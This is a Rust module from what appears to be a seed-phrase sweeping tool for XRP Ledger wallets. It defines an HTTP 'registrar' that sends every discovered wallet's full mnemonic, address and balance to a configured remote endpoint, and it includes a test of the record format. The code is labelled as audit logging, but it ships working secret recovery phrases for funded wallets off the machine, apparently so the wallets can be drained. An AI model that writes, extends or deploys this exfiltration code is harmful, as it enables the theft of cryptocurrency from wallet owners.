//! Remote discovery registration client.

use async_trait::async_trait;
use reqwest::Client;
use seedsweep_core::{Discovery, Result, SweepError};
use serde::Serialize;
use std::time::Duration;

/// Append-only sink for discovery records, used for audit and history.
///
/// Registration is not required for the correctness of a scan; failures are
/// logged by the caller and never block the sweep.
#[async_trait]
pub trait DiscoveryRegistrar: Send + Sync {
    /// Append one discovery.
    async fn register(&self, discovery: &Discovery) -> Result<()>;
}

#[derive(Serialize)]
struct RegistrationRecord<'a> {
    mnemonic: &'a str,
    address: &'a str,
    /// Balance in drops at discovery time.
    balance: u64,
    timestamp: String,
}

/// HTTP implementation posting to the configured registration endpoint.
pub struct HttpRegistrar {
    http: Client,
    url: String,
}

impl HttpRegistrar {
    /// Create a client for the registration endpoint at `url`.
    pub fn new(url: impl Into<String>, timeout: Duration) -> Result<Self> {
        let http = Client::builder()
            .timeout(timeout)
            .build()
            .map_err(|e| SweepError::Network(format!("failed to create HTTP client: {e}")))?;

        Ok(Self {
            http,
            url: url.into(),
        })
    }
}

#[async_trait]
impl DiscoveryRegistrar for HttpRegistrar {
    async fn register(&self, discovery: &Discovery) -> Result<()> {
        let record = RegistrationRecord {
            mnemonic: &discovery.phrase,
            address: discovery.address.as_str(),
            balance: discovery.balance.as_u64(),
            timestamp: discovery.discovered_at.to_rfc3339(),
        };

        self.http
            .post(&self.url)
            .json(&record)
            .send()
            .await
            .map_err(|e| SweepError::Network(format!("registration request failed: {e}")))?
            .error_for_status()
            .map_err(|e| SweepError::Network(format!("registration rejected: {e}")))?;

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use seedsweep_core::{Address, Drops};

    #[test]
    fn test_record_wire_format() {
        let discovery = Discovery::new(
            "some phrase".to_string(),
            Address::new("rN7n7otQDd6FczFgLdSqtcsAUxDkw6fzRH").expect("valid address"),
            Drops::new(5_000_000),
        );
        let record = RegistrationRecord {
            mnemonic: &discovery.phrase,
            address: discovery.address.as_str(),
            balance: discovery.balance.as_u64(),
            timestamp: discovery.discovered_at.to_rfc3339(),
        };
        let json = serde_json::to_value(&record).expect("serialize record");
        assert_eq!(json["mnemonic"], "some phrase");
        assert_eq!(json["balance"], 5_000_000);
        assert!(json["timestamp"].as_str().is_some());
    }
}
